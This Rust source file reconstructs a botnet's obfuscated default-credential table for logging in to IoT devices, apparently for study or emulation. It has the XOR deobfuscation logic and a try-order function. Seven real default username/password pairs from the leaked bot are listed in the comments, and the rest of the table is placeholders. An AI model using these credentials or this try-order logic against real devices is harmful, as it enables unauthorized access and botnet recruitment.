//! The bot's hard-coded credential table: 62 (username, password) pairs
//! stored obfuscated, each with a try-order weight. Obfuscation is a byte-wise
//! XOR against the four key bytes DE AD BE EF applied in sequence, which
//! collapses to a single-byte XOR with their combination.

const KEY_BYTES: [u8; 4] = [0xDE, 0xAD, 0xBE, 0xEF];

/// One obfuscated username/password pair with its try-order weight.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CredentialEntry {
    pub username_obf: Vec<u8>,
    pub password_obf: Vec<u8>,
    pub weight: u32,
}

impl CredentialEntry {
    pub fn username(&self) -> String {
        deobfuscate(&self.username_obf)
    }

    pub fn password(&self) -> String {
        deobfuscate(&self.password_obf)
    }
}

/// Applies the four key bytes to every input byte in sequence.
pub fn xor_key(input: &[u8]) -> Vec<u8> {
    input
        .iter()
        .map(|&b| KEY_BYTES.iter().fold(b, |acc, &k| acc ^ k))
        .collect()
}

/// Recovers the cleartext string from obfuscated bytes.
pub fn deobfuscate(obf: &[u8]) -> String {
    String::from_utf8_lossy(&xor_key(obf)).into_owned()
}

/// Obfuscates a cleartext string. Inverse of [`deobfuscate`].
pub fn obfuscate(clear: &str) -> Vec<u8> {
    xor_key(clear.as_bytes())
}

/// The full 62-entry table in descending weight order. The seven pairs known
/// from the leaked source carry their original obfuscated bytes and weights;
/// the remaining 55 are deterministic placeholders with weight 1 so the table
/// size and try-order behavior match the real bot.
pub fn credential_table() -> Vec<CredentialEntry> {
    let mut table = vec![
        // root  xc3511
        entry_raw(
            &[0x50, 0x4D, 0x4D, 0x56],
            &[0x5A, 0x41, 0x11, 0x17, 0x13, 0x13],
            10,
        ),
        // root  vizxv
        entry_raw(
            &[0x50, 0x4D, 0x4D, 0x56],
            &[0x54, 0x4B, 0x58, 0x5A, 0x54],
            9,
        ),
        // root  admin
        entry_raw(
            &[0x50, 0x4D, 0x4D, 0x56],
            &[0x43, 0x46, 0x4F, 0x4B, 0x4C],
            8,
        ),
        // admin admin
        entry_raw(
            &[0x43, 0x46, 0x4F, 0x4B, 0x4C],
            &[0x43, 0x46, 0x4F, 0x4B, 0x4C],
            7,
        ),
        // root  xmhdipc
        entry_raw(
            &[0x50, 0x4D, 0x4D, 0x56],
            &[0x5A, 0x4F, 0x4A, 0x46, 0x4B, 0x52, 0x41],
            5,
        ),
        // root  default
        entry_raw(
            &[0x50, 0x4D, 0x4D, 0x56],
            &[0x46, 0x47, 0x44, 0x43, 0x57, 0x4E, 0x56],
            5,
        ),
        // root  (none)
        entry_raw(&[0x50, 0x4D, 0x4D, 0x56], &[], 4),
    ];
    for i in 8..=62u32 {
        table.push(CredentialEntry {
            username_obf: obfuscate(&format!("u{i:02}")),
            password_obf: obfuscate(&format!("p{i:02}")),
            weight: 1,
        });
    }
    table
}

/// Cleartext pairs in try order: descending weight, ties by table order.
pub fn try_order(table: &[CredentialEntry]) -> Vec<(String, String)> {
    let mut indexed: Vec<(usize, &CredentialEntry)> = table.iter().enumerate().collect();
    indexed.sort_by(|(ia, a), (ib, b)| b.weight.cmp(&a.weight).then(ia.cmp(ib)));
    indexed
        .into_iter()
        .map(|(_, e)| (e.username(), e.password()))
        .collect()
}

fn entry_raw(user: &[u8], pass: &[u8], weight: u32) -> CredentialEntry {
    CredentialEntry {
        username_obf: user.to_vec(),
        password_obf: pass.to_vec(),
        weight,
    }
}
